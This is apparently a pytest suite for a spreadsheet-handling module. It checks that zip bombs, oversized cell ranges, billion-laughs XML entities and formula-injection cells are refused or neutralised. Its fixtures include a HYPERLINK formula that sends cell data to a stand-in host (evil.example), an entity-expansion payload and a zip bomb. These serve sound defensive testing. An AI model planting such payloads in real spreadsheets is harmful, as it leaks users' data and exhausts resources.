"""config.spreadsheets: files are measured before a reader opens them, and text never leaves as a formula."""

import io
import zipfile

import openpyxl
import pytest

from config import spreadsheets
from config.spreadsheets import SpreadsheetRefused, cell_date, check_xlsx, csv_cell, csv_row, csv_rows_read, xlsx_append
from reviews.imports import template_csv
from tests.hostile_files import corner_bomb, text_cell, xlsx

LEAK = '=HYPERLINK("http://evil.example/?"&D2,"点此核对")'


def test_the_corner_file_is_tiny_and_refused_before_any_reader_sees_it():
    content = corner_bomb()
    assert len(content) < 2048
    with pytest.raises(SpreadsheetRefused, match="表格范围过大（XFD1048576）"):
        check_xlsx(content)


@pytest.mark.parametrize(("sheet", "dimension"), [
    (f'<row r="1">{text_cell("A1", "x")}</row><row r="1048576"><c r="ZZ1048576"><v>1</v></c></row>', None),
    ('<row r="1"><c r="A1"/></row>', "A1:XFD1048576"),
    ('<row r="1000000"><c r="A1000000"/></row><row><c/><c/><c/><c/><c/><c/></row>', None),
], ids=["a-far-cell", "the-dimension", "implicit-positions"])
def test_every_way_of_naming_a_far_cell_counts(sheet, dimension):
    with pytest.raises(SpreadsheetRefused, match="表格范围过大"):
        check_xlsx(xlsx(sheet, dimension=dimension))


def test_an_ordinary_sheet_passes_and_so_does_the_template(monkeypatch):
    rows = "".join(f'<row r="{n}">{text_cell(f"A{n}", "E1")}<c r="E{n}"><v>3</v></c></row>' for n in range(1, 500))
    check_xlsx(xlsx(rows, dimension="A1:E499"))
    check_xlsx(template_csv())  # not a zip: left to the reader's own message
    monkeypatch.setattr(spreadsheets, "MAX_CELLS", 499 * 5 - 1)
    with pytest.raises(SpreadsheetRefused):
        check_xlsx(xlsx(rows))


def test_a_zip_bomb_is_refused_by_what_it_unpacks_to(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 4 * 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * 5 * 1024 * 1024 + b"</sst>")
    assert len(out.getvalue()) < 16 * 1024
    with pytest.raises(SpreadsheetRefused, match="解压后过大"):
        check_xlsx(out.getvalue())


def test_document_types_and_sheets_under_other_names_are_refused():
    laughs = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    with pytest.raises(SpreadsheetRefused, match="无法读取"):
        check_xlsx(xlsx("<row><c><v>&b;</v></c></row>", doctype=laughs))
    with pytest.raises(SpreadsheetRefused, match="无法读取"):
        check_xlsx(xlsx('<row r="1"><c r="A1"/></row>', sheet_target="worksheets/sheet1.bin"))


@pytest.mark.parametrize(("value", "written"), [
    (LEAK, "'" + LEAK), ("+86 138", "'+86 138"), ("-A1+B1", "'-A1+B1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"),
    ("-3.5", "-3.5"), ("+2", "+2"), (-3, -3), (None, None), ("张三", "张三"), ("a=b", "a=b"),
])
def test_csv_cells_that_would_be_formulas_get_a_quote_and_numbers_stay_numbers(value, written):
    assert csv_cell(value) == written


def test_a_csv_written_here_reads_back_as_the_values_it_was_written_from():
    values = [LEAK, "-夜班", "-3.5", "'quoted", "''=x", "张三", "@", "'"]
    assert csv_rows_read([csv_row(values)]) == [values]


def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text_exactly():
    book = openpyxl.Workbook()
    xlsx_append(book.active, ["E1", LEAK, -3, "=1+1"])
    out = io.BytesIO()
    book.save(out)
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row] == ["E1", LEAK, -3, "=1+1"]
    assert [c.data_type for c in row] == ["s", "s", "n", "s"]


def test_a_streamed_xlsx_keeps_formulas_as_text_numbers_as_numbers_and_replaces_control_characters():
    from decimal import Decimal

    out = io.BytesIO()
    with spreadsheets.XlsxStream(out) as book:
        sheet = book.sheet("排名", ["姓名", "积分", "空"])
        sheet.append([LEAK, Decimal("12.125"), None])
        sheet.append(["+1 张\x07三", 3, "-"])
    rows = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["排名"]
    cells = list(rows.iter_rows(min_row=2))
    assert cells[0][0].value == LEAK and cells[0][0].data_type == "s"
    assert cells[0][1].value == 12.125 and cells[0][2].value is None
    assert cells[1][0].value == "+1 张\N{REPLACEMENT CHARACTER}三" and cells[1][0].data_type == "s"
    assert cells[1][1].value == 3 and cells[1][2].value == "-"
    assert rows.freeze_panes == "A2" and rows["A1"].font.b


def test_xlsx_numbers_stay_numbers_and_show_separators_as_the_pages_do():
    from decimal import Decimal

    streamed = io.BytesIO()
    with spreadsheets.XlsxStream(streamed) as book:
        book.sheet("排名", ["名次", "积分"]).append([12345, Decimal("1234.5")])
    one_sheet = spreadsheets.xlsx_file(["名次", "积分", "工号"], [[12345, Decimal("1234.5"), "E001"]], title="名单")
    for content, title in ((streamed.getvalue(), "排名"), (one_sheet, "名单")):
        rank, points, *rest = next(openpyxl.load_workbook(io.BytesIO(content))[title].iter_rows(min_row=2))
        assert (rank.value, rank.data_type, rank.number_format) == (12345, "n", "#,##0")
        assert (points.value, points.data_type, points.number_format) == (1234.5, "n", "#,##0.000")
        assert all(cell.number_format == "General" for cell in rest)  # text is left alone


@pytest.mark.parametrize("text", ["2026-11-23", "2026/11/23", "2026.11.23", "2026年11月23日", "2026/11/23 0:00",
                                  "2026-11-23 00:00:00", " 2026-11-23 "])
def test_a_date_cell_is_read_in_every_form_an_office_types_or_saves_it(text):
    from datetime import date

    assert cell_date(text) == date(2026, 11, 23)
    assert cell_date("2026/1/5") == date(2026, 1, 5)


@pytest.mark.parametrize("text", ["2026-13-01", "2026-02-30", "23/11/2026", "2026-11-23 12:00", "昨天", "46349",
                                  "2026-11-23x", "99999-01-01"])
def test_anything_else_is_a_chinese_value_error_and_an_empty_cell_is_none(text):
    with pytest.raises(ValueError, match="日期格式应为 2026-11-23"):
        cell_date(text)
    assert cell_date("") is None and cell_date(None) is None and cell_date("  ") is None
